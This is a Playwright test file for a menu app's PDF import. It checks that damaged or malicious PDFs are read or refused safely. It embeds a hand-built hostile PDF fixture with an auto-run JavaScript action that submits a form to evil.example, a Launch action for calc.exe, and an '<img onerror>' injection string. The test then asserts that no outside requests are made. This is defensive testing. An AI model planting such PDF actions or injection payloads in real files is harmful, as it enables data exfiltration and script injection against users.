import { damaged, someDamage } from '@menuleaf/shared/testing/damage.ts';
import { sameSeed } from '@menuleaf/shared/testing/same-seed.ts';
import type { Page } from '@playwright/test';
import { array, sample } from 'fast-check';
import { expect, type Fixtures, test } from './journey.ts';
import { newSmallAccount } from './owner.ts';
import { printedMenu } from './printed-menu.ts';

const dishes: [string, string][] = [
  ['Beetroot salad', '9.50'],
  ['Caesar salad', '11.00'],
  ['Greek salad', '10.50'],
];

async function pdfOf(visitor: Fixtures['visitor']): Promise<Buffer> {
  const { page, context } = await visitor();
  await page.setContent(printedMenu([{ name: 'Salads', dishes }]));
  const pdf = await page.pdf({ format: 'A4' });
  await context.close();
  return pdf;
}

/** Actions that run on opening: a script, a link to another site, a form submission. */
const scripted = Buffer.from(`%PDF-1.7
1 0 obj <</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\(1\\);this.submitForm\\('https://evil.example/'\\))>>>> endobj
2 0 obj <</Type/Pages/Kids[3 0 R]/Count 1>> endobj
3 0 obj <</Type/Page/Parent 2 0 R/MediaBox[0 0 300 300]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 300 300]/A<</S/URI/URI(https://evil.example/)>>>>]/AA<</O<</S/Launch/F(calc.exe)>>>>>> endobj
4 0 obj <</Length 74>> stream
BT /F1 24 Tf 20 200 Td (<img src=x onerror=alert\\(1\\)> soup 7.50) Tj ET
endstream endobj
5 0 obj <</Type/Font/Subtype/Type1/BaseFont/Helvetica>> endobj
trailer <</Root 1 0 R>>
%%EOF`);

/** Imports it, and waits for the result or a refusal message. */
async function bring(page: Page, menuId: string, buffer: Buffer): Promise<string> {
  await page.goto(`/menu/${menuId}/import`);
  await page.getByRole('button', { name: 'Choose files' }).waitFor();
  const file = { name: 'menu.pdf', mimeType: 'application/pdf', buffer };
  await page.locator('input[type=file][multiple]').setInputFiles(file);
  const refused = page.getByRole('alert').filter({ hasText: /\.$/ });
  const read = page.locator('li[data-dish]');
  await expect(refused.or(read).first()).toBeVisible({ timeout: 60_000 });
  return (await refused.count()) > 0 ? refused.first().innerText() : 'read';
}

test('a PDF that is damaged, or made to do harm, is read or refused in words, and does nothing else', async ({
  signedIn,
  visitor,
}) => {
  const { owner, menuId } = await newSmallAccount([]);
  const { page, errors } = await signedIn(owner);
  const elsewhere: string[] = [];
  page.on('request', (request) => {
    if (new URL(request.url()).hostname.endsWith('.example')) elsewhere.push(request.url());
  });
  const pdf = await pdfOf(visitor);
  expect(await bring(page, menuId, pdf)).toBe('read');
  for (const damage of sample(array(someDamage, { minLength: 1, maxLength: 4 }), {
    numRuns: 12,
    seed: sameSeed,
  })) {
    const said = await bring(page, menuId, damage.reduce(damaged, pdf));
    expect(said).toMatch(/^read$|[Bb]ring|Try another file|use photos|nothing|is empty/);
  }
  expect(await bring(page, menuId, scripted)).toBe('read');
  await expect(page.getByRole('textbox', { name: /^Name of <img src=x/ })).toBeVisible();
  expect(elsewhere).toEqual([]);
  expect(errors).toEqual([]);
});
